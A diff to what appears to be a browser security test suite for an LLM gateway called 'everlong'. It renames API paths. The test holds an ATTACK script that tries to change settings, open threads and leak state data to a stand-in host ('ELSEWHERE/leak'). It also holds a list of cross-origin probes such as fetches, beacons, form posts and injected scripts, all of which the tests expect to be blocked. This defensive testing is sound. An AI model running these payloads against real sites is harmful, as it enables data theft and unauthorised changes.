@@ -19,9 +19,11 @@ COMPLAINS = ("",)  # the console tells of everything that the policy stops
 ATTACK = """
 window.broken = 1; document.title = 'broken';
 fetch('ELSEWHERE/leak').catch(() => 0);
-fetch('/api/threads', {method: 'POST', headers: {'x-everlong': 'page'}, body: '{}'}).catch(() => 0);
-fetch('/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'}, body: '{"tools": true}'}).catch(() => 0);
-fetch('/api/state').then(answer => answer.text()).then(text => fetch('ELSEWHERE/leak?' + text.length)).catch(() => 0);
+fetch('/everlong/api/threads', {method: 'POST', headers: {'x-everlong': 'page'}, body: '{}'}).catch(() => 0);
+fetch('/everlong/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'}, body: '{"tools": true}'})
+  .catch(() => 0);
+fetch('/everlong/api/state').then(answer => answer.text())
+  .then(text => fetch('ELSEWHERE/leak?' + text.length)).catch(() => 0);
 try { navigator.serviceWorker.register('/v1/worker.js', {scope: '/'}).catch(() => 0) } catch {}
 """
 HTML = f"<!doctype html><body><script>{ATTACK}</script><img src=ELSEWHERE/picture onerror='window.broken=1'>end"
@@ -65,10 +67,10 @@ def served(folder: Path, **options: Any) -> Iterator[tuple[RunningGateway, Site,
     the_page()
     with Site() as upstream, Site() as elsewhere, a_server(upstream, folder, **options) as server:
         page = Page(server.port)
-        page.get("/api/state")  # the app has asked for its models
-        before = page.get("/api/settings"), page.get("/api/threads")
+        page.get("/everlong/api/state")  # the app has asked for its models
+        before = page.get("/everlong/api/settings"), page.get("/everlong/api/threads")
         yield server, upstream, elsewhere
-        assert (page.get("/api/settings"), page.get("/api/threads")) == before
+        assert (page.get("/everlong/api/settings"), page.get("/everlong/api/threads")) == before
 
 
 @in_a_browser
@@ -156,7 +158,7 @@ OUTSIDE = {
     "reads the models": "fetch(AT + '/v1/models').then(() => 'got', () => 'held')",
     "reads explanations": "fetch(AT + '/everlong/requests').then(() => 'got', () => 'held')",
     "reads figures": "fetch(AT + '/metrics').then(() => 'got', () => 'held')",
-    "reads threads": "fetch(AT + '/api/threads').then(() => 'got', () => 'held')",
+    "reads threads": "fetch(AT + '/everlong/api/threads').then(() => 'got', () => 'held')",
     "asks a model": "fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT}).then(() => 'got', () => 'held')",
     "asks a model as JSON": """fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT,
         headers: {'content-type': 'application/json'}}).then(() => 'got', () => 'held')""",
@@ -165,7 +167,7 @@ OUTSIDE = {
     "asks a model without a referrer": """fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT,
         mode: 'no-cors', referrerPolicy: 'no-referrer'}).then(() => 'held', () => 'held')""",
     "sends a beacon": "navigator.sendBeacon(AT + '/v1/chat/completions', CHAT) ? 'held' : 'held'",
-    "changes a setting": """fetch(AT + '/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'},
+    "changes a setting": """fetch(AT + '/everlong/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'},
         body: '{"tools": true}'}).then(() => 'got', () => 'held')""",
     "posts a form": """new Promise(done => { const frame = document.createElement('iframe'); frame.name = 'target';
         const form = document.createElement('form'); form.action = AT + '/v1/chat/completions'; form.method = 'POST';
@@ -177,9 +179,9 @@ OUTSIDE = {
         {'one.rel = "stylesheet"; one.href' if tag == "link" else "one.src"} = AT + '{path}'; document.head.append(one);
         one.onload = () => done('got'); one.onerror = () => done('held') }})"""
         for tag in ("script", "img", "link")
-        for path in ("/everlong/requests", "/v1/evil.js", "/health", "/api/state", "/")
+        for path in ("/everlong/requests", "/v1/evil.js", "/health", "/everlong/api/state", "/")
     },
-    "listens to requests": """new Promise(done => { const one = new EventSource(AT + '/api/live');
+    "listens to requests": """new Promise(done => { const one = new EventSource(AT + '/everlong/api/live');
         one.onopen = () => done('got'); one.onerror = () => { one.close(); done('held') } })""",
     "opens a socket": """new Promise(done => { const one = new WebSocket(AT.replace('http', 'ws') + '/v1/realtime');
         one.onopen = () => done('got'); one.onerror = () => done('held') })""",
@@ -188,7 +190,7 @@ OUTSIDE = {
         try { return one && one.document && one.document.body.textContent ? 'got' : 'held' }
         catch { return 'held' } })()""",
 }
-FRAMED = ("/", "/health", "/v1/models", "/v1/evil.html", "/everlong/requests", "/metrics", "/api/state")
+FRAMED = ("/", "/health", "/v1/models", "/v1/evil.html", "/everlong/requests", "/metrics", "/everlong/api/state")
 
 
 @in_a_browser
@@ -253,7 +255,10 @@ def test_a_site_that_is_allowed_uses_the_gateway_and_not_the_app(tmp_path: Path)
             read = f"""fetch('{server.address}/v1/models', {sent})
                 .then(async answer => [answer.status, answer.headers.has('x-everlong-request'), await answer.json()])"""
             assert view.page.evaluate(read) == [200, True, {"data": [{"id": "m"}]}]
-            assert view.page.evaluate(f"fetch('{server.address}/api/state').then(() => 'got', () => 'held')") == "held"
+            assert (
+                view.page.evaluate(f"fetch('{server.address}/everlong/api/state').then(() => 'got', () => 'held')")
+                == "held"
+            )
             other = f"http://127.0.0.1:{elsewhere.port}"  # the same server by another name is another site
             view.page.goto(other)
             assert view.page.evaluate(f"fetch('{server.address}/v1/models').then(() => 'got', () => 'held')") == "held"
